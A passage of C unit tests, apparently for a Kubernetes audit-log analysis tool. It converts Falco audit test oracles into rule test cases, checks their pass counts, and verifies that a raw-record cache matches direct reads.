	strbuf_addf(&dir, "%s/%s", top, c->name);
	cr_assert(mkdir(dir.buf, 0777) == 0, "%s", dir.buf);
	strbuf_addf(&text, "rules: [%s]\nevidence: [%s/corpus/k8s_audit/falco__%s]\n", c->rules.buf, test_shared_dir(),
		    c->trace);
	if (c->expect.len)
		strbuf_addf(&text, "expect:\n%s", c->expect.buf);
	else
		strbuf_addstr(&text, "expect: {}\n");
	/* a case that detects checks the counts it names; one that does not, that nothing fires */
	if (c->detect)
		strbuf_addstr(&text, "others: ignore\n");
	write_at(dir.buf, "test.yaml", text.buf);
	(*made)++;
out:
	strbuf_release(&dir);
	strbuf_release(&text);
	strbuf_reset(&c->rules);
	strbuf_reset(&c->expect);
	c->name[0] = c->trace[0] = '\0';
	c->detect = c->skip = false;
}

Test(k8s_oracle, falco_k8s_audit_cases_give_the_expected_alerts)
{
	struct strbuf oracle = STRBUF_INIT, out = STRBUF_INIT, err = STRBUF_INIT, path = STRBUF_INIT;
	struct oracle_case c = { .rules = STRBUF_INIT, .expect = STRBUF_INIT };
	char *top, *line, *save = NULL;
	const char *key = "";
	size_t made = 0, skipped = 0;

	REQUIRE_SHARED();
	top = make_dir("k8s-oracle");
	strbuf_addf(&path, "%s/corpus/k8s_audit/falco__k8s_audit_tests.oracle.yaml", test_shared_dir());
	cr_assert(test_read_file(path.buf, &oracle), "%s", path.buf);
	/* The oracle is a flat two-level YAML (case: key: value / - item); read it by indentation. */
	for (line = strtok_r(oracle.buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *v;
		if (!strncmp(line, "  ", 2) && line[2] != ' ' && line[2] != '#' && strchr(line, ':')) {
			emit_case(top, &c, &made, &skipped);
			snprintf(c.name, sizeof(c.name), "%.*s", (int)(strchr(line, ':') - line - 2), line + 2);
		} else if (!strncmp(line, "    ", 4) && line[4] != ' ' && (v = strchr(line, ':'))) {
			*v = '\0';
			key = line + 4;
			v += 1 + strspn(v + 1, " ");
			if (!strcmp(key, "detect"))
				c.detect = !strcmp(v, "True");
			else if (!strcmp(key, "addl_cmdline_opts") && strstr(v, "k8s_audit/"))
				snprintf(c.trace, sizeof(c.trace), "%s", strstr(v, "k8s_audit/") + 10);
			key = !strcmp(key, "rules_file") ? "rules_file" : !strcmp(key, "detect_counts") ? "detect_counts" : "";
		} else if (!strncmp(line, "      - ", 8) && c.name[0]) {
			const char *item = line + 8, *base = strrchr(item, '/') ? strrchr(item, '/') + 1 : item;
			if (!strcmp(key, "rules_file")) {
				struct strbuf ov = STRBUF_INIT;
				struct stat st;
				if (c.rules.len)
					strbuf_addstr(&c.rules, ", ");
				if (!strcmp(base, "falco_rules.yaml") || !strcmp(base, "k8s_audit_rules.yaml")) {
					strbuf_addf(&c.rules, "%s/corpus/falco/%s", test_shared_dir(), base);
				} else {
					strbuf_addf(&ov, "%s/tests/k8s-oracle/%s", test_source_root(), base);
					if (strstr(item, "engine_v4") || stat(ov.buf, &st) < 0)
						c.skip = true; /* an older engine's copy of the rules: not in the corpus */
					strbuf_addstr(&c.rules, ov.buf);
				}
				strbuf_release(&ov);
			} else if (!strcmp(key, "detect_counts")) {
				char *colon = strrchr(line, ':');
				*colon = '\0';
				const char *rule = item;
				for (size_t i = 0; i < sizeof(renamed) / sizeof(renamed[0]); i++)
					if (!strcmp(rule, renamed[i].old))
						rule = renamed[i].now;
				strbuf_addf(&c.expect, "  \"%s\": %s\n", rule, colon + 1 + strspn(colon + 1, " "));
			}
		}
	}
	emit_case(top, &c, &made, &skipped);
	/* 66 cases: 7 run the engine_v4 copy of the rules */
	cr_expect_eq(made, 59, "%zu cases made", made);
	cr_expect_eq(skipped, 7, "%zu cases skipped", skipped);
	cr_expect_eq(test_run(&out, &err, "rules", "test", top, NULL), 0, "%s%s", out.buf, err.buf);
	cr_expect_str_eq(out.buf, "59 cases: 59 passed, 0 failed, 0 could not run\n");
	strbuf_release(&oracle);
	strbuf_release(&out);
	strbuf_release(&err);
	strbuf_release(&path);
	strbuf_release(&c.rules);
	strbuf_release(&c.expect);
}

/* ---- the raw-block cache ---- */

Test(rawcache, reads_every_record_as_raw_read_does)
{
	char *db = test_file("raw.db");
	struct casedb *cdb;
	struct raw_cache *rc;
	struct strbuf a = STRBUF_INIT, b = STRBUF_INIT, err = STRBUF_INIT, out = STRBUF_INIT, path = STRBUF_INIT;
	int64_t n;

	REQUIRE_SHARED();
	strbuf_addf(&path, "%s/corpus/k8s_audit/audit2rbac__apiserver-log-v1beta1-757-events.log", test_shared_dir());
	cr_assert_eq(test_run(&out, &err, "import", "-q", db, path.buf, NULL), 0, "%s", err.buf);
	cr_assert_eq(casedb_open(db, CASEDB_READ, &cdb, &err), 0, "%s", err.buf);
	n = casedb_count(cdb, "events");
	cr_assert_eq(n, 757);
	rc = raw_cache_new(cdb);
	/* forwards (one decode per block), backwards (every block again), and past the end */
	for (int pass = 0; pass < 2; pass++) {
		for (int64_t k = 1; k <= n + 1; k++) {
			int64_t id = pass ? n + 2 - k : k;
			int ra, rb;
			strbuf_reset(&a);
			strbuf_reset(&b);
			ra = raw_read(cdb, id, &a, &err);
			rb = raw_cache_read(rc, id, &b, &err);
			cr_assert_eq(ra, rb, "event %lld: %d vs %d", (long long)id, ra, rb);
			cr_assert_eq(a.len, b.len, "event %lld", (long long)id);
			cr_assert(!a.len || !memcmp(a.buf, b.buf, a.len), "event %lld", (long long)id);
		}
	}
	cr_expect_eq(raw_cache_read(rc, 0, &b, &err), -ENOENT);
	raw_cache_free(rc);
	raw_cache_free(NULL);
	casedb_free(cdb);
	strbuf_release(&a);
	strbuf_release(&b);
	strbuf_release(&err);
	strbuf_release(&out);
	strbuf_release(&path);
}
